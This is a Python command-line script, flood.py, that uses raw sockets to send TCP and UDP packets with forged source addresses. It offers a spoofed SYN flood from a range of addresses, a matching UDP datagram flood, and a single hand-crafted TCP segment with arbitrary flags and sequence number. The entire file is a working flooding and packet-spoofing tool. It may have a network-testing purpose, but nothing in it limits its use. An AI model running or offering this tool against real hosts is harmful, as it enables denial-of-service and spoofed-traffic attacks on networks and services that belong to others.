# SPDX-License-Identifier: Apache-2.0
"""A program that only imports the standard library: packets with forged sources.

flood.py many HOST PORT FIRST COUNT [SOURCE_PORT]  one SYN from each of COUNT addresses
flood.py datagrams HOST PORT FIRST COUNT           the same of UDP
flood.py one HOST PORT SOURCE PORT FLAGS NUMBER    one segment with these flags and this number
"""

import socket
import struct
import sys
from collections.abc import Callable

SOURCE_PORT, SYN = 4000, 2
TCP, UDP = socket.IPPROTO_TCP, socket.IPPROTO_UDP


def checksum(words: bytes) -> int:
    """Return the checksum of RFC 1071."""
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return int(~(total + (total >> 16)) & 0xFFFF)


def packet(
    source: bytes, destination: bytes, ports: tuple[int, int], flags: int, seq: int
) -> bytes:
    """Return a packet with an IPv4 header whose length, id and checksum the kernel fills in
    (raw(7)), or with IPv6's.
    """

    def header(check: int) -> bytes:
        return struct.pack("!HHIIBBHHH", *ports, seq, 0, 5 << 4, flags, 64240, check, 0)

    return carried(source, destination, TCP, header)


def datagram(source: bytes, destination: bytes, ports: tuple[int, int]) -> bytes:
    """Return a datagram that asks for an answer."""

    def header(check: int) -> bytes:
        return struct.pack("!HHHH", *ports, 10, check) + b"?\n"

    return carried(source, destination, UDP, header)


def carried(
    source: bytes, destination: bytes, protocol: int, header: Callable[[int], bytes]
) -> bytes:
    """Return the packet; ``header`` makes everything after the IP header, from this checksum."""
    pseudo = source + destination + struct.pack("!HH", protocol, len(header(0)))
    if len(source) == 4:
        ip = struct.pack("!BBHHHBBH", 4 << 4 | 5, 0, 0, 0, 0, 64, protocol, 0)
    else:
        ip = struct.pack("!IHBB", 6 << 28, len(header(0)), protocol, 64)
    return ip + source + destination + header(checksum(pseudo + header(0)))


def many(host: str, port: str, first: str, count: str, own: str = str(SOURCE_PORT)) -> None:
    ports = int(own), int(port)
    flood(host, first, count, lambda source, to: packet(source, to, ports, SYN, 1000))


def datagrams(host: str, port: str, first: str, count: str) -> None:
    ports = SOURCE_PORT, int(port)
    flood(host, first, count, lambda source, to: datagram(source, to, ports))


def flood(host: str, first: str, count: str, make: Callable[[bytes, bytes], bytes]) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    destination, source = (socket.inet_pton(family, address) for address in (host, first))
    start, size = int.from_bytes(source, "big"), len(source)
    with raw(family) as sender:
        for number in range(start, start + int(count)):
            sender.sendto(make(number.to_bytes(size, "big"), destination), (host, 0))


def one(host: str, port: str, source: str, source_port: str, flags: str, number: str) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    own, its = (socket.inet_pton(family, end) for end in (source, host))
    forged = packet(own, its, (int(source_port), int(port)), int(flags), int(number))
    with raw(family) as sender:
        sender.sendto(forged, (host, 0))


def raw(family: int) -> socket.socket:
    return socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)


if __name__ == "__main__":
    commands: dict[str, Callable[..., None]] = {"many": many, "datagrams": datagrams, "one": one}
    commands[sys.argv[1]](*sys.argv[2:])
